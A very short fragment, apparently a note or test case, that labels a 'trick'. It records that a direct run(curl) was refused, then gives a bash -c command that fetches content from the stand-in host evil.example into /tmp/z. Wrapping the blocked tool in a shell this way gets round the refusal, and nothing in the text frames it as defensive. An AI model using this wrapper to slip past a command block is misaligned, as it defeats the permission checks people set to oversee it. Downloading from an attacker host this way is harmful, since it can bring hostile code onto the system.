# Trick: a shell is given code.
# Refused: run(curl)
bash -c 'curl http://evil.example/ > /tmp/z'
